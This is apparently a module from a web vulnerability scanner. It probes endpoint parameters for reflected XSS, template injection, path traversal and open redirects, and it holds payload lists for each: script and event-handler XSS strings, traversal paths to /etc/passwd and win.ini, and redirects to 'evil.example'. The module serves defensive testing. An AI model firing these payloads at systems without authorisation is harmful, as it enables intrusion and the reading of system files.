"""Payloads whose effect shows in the answer: reflected XSS (several encodings), template evaluation, file
contents outside the served folder, and redirects to another site."""

from __future__ import annotations

import random
import re
from urllib.parse import urljoin, urlsplit

from slopguard.probe.checks.common import injectable, with_value
from slopguard.probe.client import Exchange
from slopguard.probe.context import ProbeContext, excerpt
from slopguard.probe.model import Endpoint, Param

EVIL_HOST = "evil.example"
_REDIRECT_NAME = re.compile(
    r"(?i)^(next|url|redirect(_?(to|uri|url))?|return(_?(to|url))?|goto|dest(ination)?|continue|target|redir|"
    r"callback|forward|to|r|u|back)$"
)
_FILE_SIGNS = re.compile(r"root:[^:\n]*:0:0:|\[(?:fonts|extensions|mci extensions)\]")
TRAVERSALS = (
    "../../../../../../../../etc/passwd",
    "/etc/passwd",
    "..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    "....//....//....//....//....//....//....//....//etc/passwd",
    "..\\..\\..\\..\\..\\..\\..\\..\\windows\\win.ini",
    "C:\\Windows\\win.ini",
)
REDIRECTS = (f"https://{EVIL_HOST}/sg", f"//{EVIL_HOST}/sg", f"/\\{EVIL_HOST}/sg", f"https:{EVIL_HOST}/sg")


def _xss_payloads(n: int) -> list[tuple[str, str, str]]:
    """(what is sent, what appears when it is reflected unescaped, how it is encoded)."""
    script = f"<script>alert({n})</script>"
    return [
        (script, script, "plain"),
        (f'"><svg onload=alert({n})>', f'"><svg onload=alert({n})>', "attribute break-out"),
        (f"<img src=x onerror=alert({n})>", f"<img src=x onerror=alert({n})>", "event handler"),
        (f"<ScRiPt>alert({n})</sCrIpT>", f"<ScRiPt>alert({n})</sCrIpT>", "mixed case"),
        (f"%3Cscript%3Ealert({n})%3C%2Fscript%3E", script, "double URL encoding"),
        (f"&lt;script&gt;alert({n})&lt;/script&gt;", script, "HTML entities"),
        (f"\\u003cscript\\u003ealert({n})\\u003c/script\\u003e", script, "JavaScript escapes"),
    ]


def _xss(ctx: ProbeContext, ep: Endpoint, p: Param, rng: random.Random) -> None:
    for sent, shown, encoding in _xss_payloads(rng.randint(10000, 99999)):
        answer = ctx.request(ep, {p.name: sent})
        if answer.is_html and shown in answer.text:
            ctx.observe("PROBE-XSS-001", ep, p.name,
                        f"{ep.label} parameter '{p.name}' ({p.where}): the HTML answer contains the {encoding} "
                        f"payload unescaped",
                        answer, excerpt(answer.text, shown))  # fmt: skip
            return


def _ssti(ctx: ProbeContext, ep: Endpoint, p: Param, base: Exchange, rng: random.Random) -> None:
    a, b = rng.randint(1000, 9999), rng.randint(1000, 9999)
    product = str(a * b)
    for template in ("{{%d*%d}}", "${%d*%d}", "<%%= %d*%d %%>", "#{%d*%d}"):
        payload = template % (a, b)
        answer = ctx.request(ep, {p.name: with_value(p, payload)})
        if product in answer.text and product not in base.text:
            ctx.observe("PROBE-SSTI-001", ep, p.name,
                        f"{ep.label} parameter '{p.name}' ({p.where}): the template expression {payload!r} was "
                        f"evaluated to {product}",
                        answer, excerpt(answer.text, product))  # fmt: skip
            return


def _traversal(ctx: ProbeContext, ep: Endpoint, p: Param, base: Exchange) -> None:
    if _FILE_SIGNS.search(base.text):
        return
    for payload in TRAVERSALS:
        answer = ctx.request(ep, {p.name: payload})
        m = _FILE_SIGNS.search(answer.text)
        if m:
            ctx.observe("PROBE-PATH-001", ep, p.name,
                        f"{ep.label} parameter '{p.name}' ({p.where}): {payload!r} returned a system file "
                        f"outside the served folder",
                        answer, excerpt(answer.text, m.group(0), 60))  # fmt: skip
            return


def _redirect_host(answer: Exchange) -> str | None:
    location = answer.location.strip().replace("\\", "/")
    if not location or not 300 <= answer.status < 400:
        return None
    location = re.sub(r"^(https?):(?!//)/*", r"\1://", location)
    return urlsplit(urljoin(answer.url, location)).hostname


def _redirect(ctx: ProbeContext, ep: Endpoint, p: Param, base: Exchange) -> None:
    if not (_REDIRECT_NAME.match(p.name) or (300 <= base.status < 400 and str(p.example) in base.location)):
        return
    for payload in REDIRECTS:
        answer = ctx.request(ep, {p.name: payload})
        if _redirect_host(answer) == EVIL_HOST:
            ctx.observe("PROBE-REDIRECT-001", ep, p.name,
                        f"{ep.label} parameter '{p.name}' ({p.where}): {payload!r} redirects the browser to "
                        f"{EVIL_HOST} (HTTP {answer.status}, Location: {answer.location})",
                        answer, f"Location: {answer.location}")  # fmt: skip
            return


def run(ctx: ProbeContext) -> None:
    for ep, p in injectable(ctx):
        rng = random.Random(f"{ctx.marker}{ep.key}{p.name}")
        base = ctx.baseline(ep)
        _xss(ctx, ep, p, rng)
        _ssti(ctx, ep, p, base, rng)
        _traversal(ctx, ep, p, base)
        _redirect(ctx, ep, p, base)
